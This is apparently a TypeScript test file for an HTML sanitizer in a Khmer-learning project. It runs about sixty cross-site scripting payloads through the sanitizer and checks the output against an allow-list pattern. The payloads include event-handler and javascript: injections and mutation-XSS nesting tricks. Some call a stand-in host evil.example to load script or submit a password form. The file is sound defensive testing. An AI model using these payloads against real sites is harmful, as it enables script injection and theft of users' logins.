import { xssPayloads } from '@khmer-learning/test-kit';
import { sanitizeSectionHtml } from './sanitize-sections.ts';

const attribute =
  '(?: (?:href="(?:https?://|mailto:|tel:|sms:)[^"<>]*"|rel="noopener nofollow"|alt="[^"<>]*"' +
  '|src="(?:https?://[^"<>]*|/uploads/[A-Za-z0-9._-]+|data:image/(?:png|jpeg);base64,[A-Za-z0-9+/=]+)"))';
const tag = `<(?:/?(?:p|h[1-6]|blockquote|ul|ol|li|b|strong|i|em|u|code|pre)|/a|a${attribute}*|br /|img${attribute}+ /)>`;
/** Only text without angle brackets and the allowed tags: a browser can parse it in only one way. */
const harmless = new RegExp(`^(?:[^<>]|${tag})*$`, 'is');

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/i.png" onload="alert(1)" style="position:fixed" srcset="x 1x">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="/uploads/../api/auth/logout">',
  '<img src="//evil.example/i.png">',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank" rel="opener">x</a>',
  '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href="javascript:alert(1)">x</a><svg onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><noscript></desc><img title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><p><img src=x onerror=alert(1)></p></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<style>@import "//evil.example"; *{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))" class="x" id="y" onfocus=alert(1) autofocus tabindex=1>x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<base href="https://evil.example/"><link rel=stylesheet href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet ><img src=x onerror=alert(1)> ?>',
  '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>a < b > c <notatag <img src=x onerror=alert(1)></p>',
  '<p/onclick=alert(1)><b/<img src=x onerror=alert(1)>',
  '<table><tr><td><a href="javascript:alert(1)"><img src=x onerror=alert(1)></a></table>',
  '<\u0000script>alert(1)</script><img\u0000 src=x onerror=alert(1)>',
  '<a><b><i></a><script>alert(1)</script></i></b>',
  '<custom-element onclick=alert(1) is="x"><slot name=y></slot></custom-element>',
];

describe('html of a section', () => {
  it.each([...attacks, ...xssPayloads])('is harmless after %j', (attack) => {
    const clean = sanitizeSectionHtml(`<p>ខ្មែរ</p>${attack}`);
    expect(clean).toMatch(harmless);
    expect(clean.startsWith('<p>ខ្មែរ</p>')).toBe(true);
    expect(sanitizeSectionHtml(clean)).toBe(clean);
  });

  it('fails the check above before it is sanitised', () => {
    // Input that is escaped already must stay escaped.
    expect(attacks.filter((attack) => harmless.test(attack))).toEqual([
      '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">x</a>',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
    ]);
  });

  it('keeps what authors may use', () => {
    const html =
      '<h2>Market</h2><p>Say <b>one</b>, <strong>two</strong>, <i>a</i>, <em>b</em>, <u>c</u><br />' +
      '<code>x</code></p><pre>y</pre><blockquote>z</blockquote><ul><li>1</li></ul><ol><li>2</li></ol>' +
      '<img src="/uploads/cover-1.png" alt="A market" /><img src="data:image/png;base64,iVBORw0KGgo=" />' +
      '<img src="https://images.example/a.jpg" />';
    expect(sanitizeSectionHtml(html)).toBe(html);
  });

  it('leaves what the console’s editor writes as it is, to the byte', () => {
    // The editor's own test uses the same text.
    const html =
      '<h2>Market &amp; river</h2><p>Say <strong>one</strong>, <em>two</em>, <u>three</u><br />' +
      '<strong><em>both</em></strong> <code>x &lt; "y"</code></p><pre>\n\ny\n  z</pre>' +
      '<blockquote><p>q</p></blockquote><ul><li><p>1</p><ol><li><p>2</p></li></ol></li></ul><p><br /></p>' +
      '<p><a href="https://x.example/?a=1&amp;b=&quot;" rel="noopener nofollow">a <strong>link</strong></a></p>' +
      '<p><img src="/uploads/cover-1.png" alt="A &quot;market&quot;" />' +
      '<img src="data:image/png;base64,iVBORw0KGgo=" /></p>';
    expect(sanitizeSectionHtml(html)).toBe(html);
  });

  it.each(['https://x.example/?a=1', 'http://x.example', 'mailto:a@x.example', 'tel:+85512', 'sms:+85512'])(
    'links to %s without lending it our name',
    (href) => {
      expect(sanitizeSectionHtml(`<a target="_blank" href="${href}">x</a>`)).toBe(
        `<a href="${href}" rel="noopener nofollow">x</a>`,
      );
    },
  );

  it('keeps the text of removed elements, unless the text is code', () => {
    expect(
      sanitizeSectionHtml('<div>a<span>b</span><a href="javascript:x">c</a></div><script>d</script>'),
    ).toBe('ab<a>c</a>');
  });

  it('handles malicious nesting and size in little processor time', () => {
    const started = process.cpuUsage();
    sanitizeSectionHtml('<b>'.repeat(10_000));
    sanitizeSectionHtml('<p><a href="https://x.example">'.repeat(5_000));
    sanitizeSectionHtml('&'.repeat(250_000));
    sanitizeSectionHtml('<'.repeat(250_000));
    sanitizeSectionHtml(`<img src="data:image/png;base64,${'A'.repeat(250_000)}!">`);
    const { user, system } = process.cpuUsage(started);
    // A second or two, also on a busy machine; time that grows with the square would be minutes.
    expect((user + system) / 1_000).toBeLessThan(20_000);
  });
});
